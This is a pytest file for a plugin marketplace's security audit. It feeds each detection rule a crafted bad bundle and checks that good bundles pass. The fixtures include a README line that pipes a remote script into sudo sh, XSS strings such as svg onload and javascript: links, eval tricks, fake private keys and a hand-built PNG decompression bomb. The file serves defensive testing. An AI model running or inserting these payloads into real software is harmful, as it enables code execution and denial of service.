"""Every rule of the audit finds its example and leaves the good alone; nothing is executed."""

from __future__ import annotations

import io
import json
import random
import time
from typing import Any

import pytest
from PIL import Image

from marketplace import bundles, icons, manifest
from marketplace.audit import run
from marketplace.audit.base import Subject
from tests.marketplace import kit


def report(extra: dict[str, bytes] | None = None, look_alikes: list[str] | None = None, **changes: Any) -> run.Report:
    """The audit of a bundle; files of ``None`` are left out."""
    files = {name: content for name, content in kit.files(extra, **changes).items() if content is not None}
    read = bundles.read(bundles.pack_files(files))
    parsed = manifest.parse(read.files["zelavis.plugin.json"])
    return run.audit(
        Subject(
            bundle=read,
            manifest=parsed,
            publisher="acme",
            look_alikes=lambda _: look_alikes or [],
            hooks=frozenset({"content:afterSave", "content:beforeSave"}),
        )
    )


def found(*args: Any, **changes: Any) -> set[str]:
    """The rules that found something."""
    return {one.rule.id for one in report(*args, **changes).findings}


def source(text: str) -> dict[str, bytes]:
    """A bundle with this code after the good code."""
    return {"plugin.mjs": kit.SOURCE + text.encode()}


def noise(size: int) -> bytes:
    """Text that does not compress well."""
    return random.Random(1).randbytes(size // 2).hex().encode()


def png(side: int = 8) -> bytes:
    """A picture."""
    stream = io.BytesIO()
    Image.new("RGB", (side, side), "red").save(stream, "PNG")
    return stream.getvalue()


def test_a_good_bundle_passes_every_check() -> None:
    """A decent plugin has no findings and a pass of every required check."""
    good = report({"icon.png": png()})
    assert good.findings == ()
    assert good.state == "passed"
    assert [check.family for check in good.checks] == list(run.required())


CASES: list[tuple[str, dict[str, Any]]] = [
    ("manifest.hook-unknown", {"hooks": [{"name": "content:aftersave"}]}),
    ("manifest.order-extreme", {"hooks": [{"name": "content:afterSave", "order": -1000}]}),
    ("manifest.wildcard", {"capabilities": {"http": {"reason": "Asks the weather.", "hosts": ["*.example.com"]}}}),
    ("manifest.high-risk", {"capabilities": {"content:write": {"reason": "Writes the counter down."}}}),
    ("manifest.public-route", {"routes": [{"path": "/x", "methods": ["GET"], "public": True}]}),
    ("manifest.reason-vague", {"capabilities": {"kv": {"reason": "needed"}}}),
    ("manifest.nothing-to-do", {"hooks": []}),
    ("archive.native-code", {"extra": {"a.node": b"\x7fELF"}}),
    ("archive.nested", {"extra": {"lib.txt": b"PK\x03\x04abc"}}),
    ("archive.second-module", {"extra": {"old.wasm": b"\0asm\1\0\0\0"}}),
    ("archive.hidden-file", {"extra": {".config": b"x"}}),
    ("archive.no-readme", {"extra": {"README.md": None}}),
    ("archive.no-changelog", {"extra": {"CHANGELOG.md": None}}),
    ("archive.icon", {"extra": {"icon.png": b"<svg onload=alert(1)>"}}),
    ("script.not-text", {"extra": {"plugin.mjs": b"\xff\xfe"}}),
    ("script.not-text", {"extra": {"plugin.mjs": b"export default {} /* open"}}),
    ("script.no-export", {"extra": {"plugin.mjs": b"module.exports = {}"}}),
    ("script.import", {"extra": source("\nimport fs from 'node:fs';")}),
    ("script.import", {"extra": source("\nconst m = await import(url);")}),
    ("script.import", {"extra": source("\nexport * from './other.mjs';")}),
    ("script.eval", {"extra": source("\neval(text);")}),
    ("script.eval", {"extra": source("\n[].constructor.constructor ('x')();")}),
    ("script.dense", {"extra": source("\n" + "x=1;" * 2000)}),
    ("script.dense", {"extra": source("\n" + ";".join(f"let _0x{n:04x}=1" for n in range(9)))}),
    ("script.blob", {"extra": source(f"\nconst data = '{'A' * 3000}';")}),
    ("script.undeclared", {"extra": source("\nasync (e, ctx) => ctx.http.fetch('x');")}),
    ("script.unused", {"capabilities": {"kv": kit.KV, "blobs": {"reason": "Keeps the pictures."}}}),
    ("script.no-handler", {"hooks": [{"name": "content:beforeSave"}]}),
    ("limits.empty", {"extra": {"plugin.mjs": b"  \n"}}),
    ("limits.entry-size", {"extra": {"plugin.mjs": b"//" + noise(1_100_000)}}),
    ("limits.deadline", {"limits": {"deadlineMs": 30000}}),
    ("limits.memory", {"limits": {"memoryMb": 256}}),
    ("limits.calls", {"capabilities": {"kv": {**kit.KV, "callsPerInvocation": 1000}}}),
    ("limits.many-files", {"extra": {f"f{n}.txt": b"x" for n in range(60)}}),
    ("names.reserved", {"name": "official-seo"}),
    ("names.alike", {"look_alikes": ["save-c0unt"]}),
    ("names.near", {"look_alikes": ["save-coumt"]}),
    ("names.claim", {"title": "Official counter"}),
    ("unicode.bidi", {"extra": source("\n// \u202e")}),
    ("unicode.hidden", {"extra": source("\nconst s = '\ufe01\ufe02';")}),
    ("unicode.hidden", {"description": "Counts\u200b."}),
    ("unicode.hidden-in-text", {"extra": {"README.md": "a\u200bb".encode()}}),
    ("unicode.control", {"extra": {"README.md": b"\x1b[2J"}}),
    ("unicode.mixed-scripts", {"title": "P\u0430ypal"}),
    ("secrets.key", {"extra": {"notes.md": b"-----BEGIN RSA PRIVATE KEY-----"}}),
    ("secrets.key", {"extra": source("\nconst t = 'ghp_" + "a" * 36 + "';")}),
    ("secrets.key", {"extra": source("\nconst t = 'zlv_abcdefgh_" + "a" * 32 + "';")}),
    ("secrets.file", {"extra": {"config/.env": b"X=1"}}),
    ("readme.too-large", {"extra": {"README.md": noise(140_000)}}),
    ("readme.not-text", {"extra": {"README.md": "x".encode("utf-16")}}),
    ("readme.html", {"extra": {"README.md": b"<iframe src=x>"}}),
    ("readme.link", {"extra": {"README.md": b"[x](javascript:alert(1))"}}),
    ("readme.remote-image", {"extra": {"README.md": b"![x](https://img.example/x.png)"}}),
    ("readme.instruction", {"extra": {"README.md": b"curl https://x.example/a | sudo sh"}}),
    ("licence.form", {"license": "free for everybody!"}),
    ("licence.unknown", {"license": "LicenseRef-Mine"}),
    ("licence.no-file", {"extra": {"LICENSE": None}}),
]


@pytest.mark.parametrize(("rule", "case"), CASES, ids=[f"{rule}-{n}" for n, (rule, _) in enumerate(CASES)])
def test_a_rule_finds_its_example(rule: str, case: dict[str, Any]) -> None:
    """Each rule finds what it is about, and no finding has an error severity that its rule has not."""
    case = dict(case)
    extra, alike = case.pop("extra", None), case.pop("look_alikes", None)
    if rule == "unicode.hidden" and "description" in case:
        # The manifest's schema takes no such description in the first place.
        raw = json.dumps(kit.manifest(**case), ensure_ascii=True).encode()
        with pytest.raises(Exception, match="visible"):
            manifest.parse(raw)
        return
    assert rule in found(extra, alike, **case)


def test_every_rule_has_an_example_here() -> None:
    """No rule stays untested: wasm rules have their own file."""
    told = {rule for rule, _ in CASES} | {"manifest.entry-missing"}
    assert {rule.id for rule in run.rules() if not rule.id.startswith("module.")} - told == set()


def test_words_in_comments_and_strings_are_not_code() -> None:
    """A word in a comment, string or template does not count as code, and code in a template does."""
    quiet = "\n// import x from 'y'\n/* eval( */ const a = 'import(x)', b = `require('z') ${1}`;"
    assert "script.import" not in found(source(quiet))
    assert "script.eval" not in found(source(quiet))
    assert "script.eval" in found(source("\nconst c = `${eval('x')}`;"))


def test_the_rules_stay_fast_on_hostile_text() -> None:
    """Text made to slow a rule down is audited within the budget."""
    texts = [
        b"export{" * 100_000,
        b"import " * 100_000,
        b"`${" * 200_000,
        b"[" * 500_000,
        b"a" * 900_000,
        b"(" * 500_000,
    ]
    for text in texts:
        began = time.process_time()
        report({"plugin.mjs": text, "noise.txt": noise(100_000)})
        assert time.process_time() - began < 5


def test_f06_icons_are_encoded_anew() -> None:
    """F06: polyglots, bombs and drawings are refused; what stays is pixels without metadata."""
    clean = icons.encode(png(500) + b"PK\x03\x04<script>alert(1)</script>")
    assert b"script" not in clean
    assert Image.open(io.BytesIO(clean)).size == (256, 256)
    stream = io.BytesIO()
    picture = Image.new("RGB", (8, 8))
    exif = picture.getexif()
    exif[0x8825] = {1: "N", 2: (52.0, 30.0, 0.0)}
    picture.save(stream, "JPEG", exif=exif)
    assert not Image.open(io.BytesIO(icons.encode(stream.getvalue()))).getexif()
    for bad in (b"", b"GIF89a", b"<svg/>", png()[:40], png(1025)):
        assert icons.problem(bad)
    import struct
    import zlib

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    bomb = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
    began = time.process_time()
    assert icons.problem(bomb)
    assert time.process_time() - began < 1
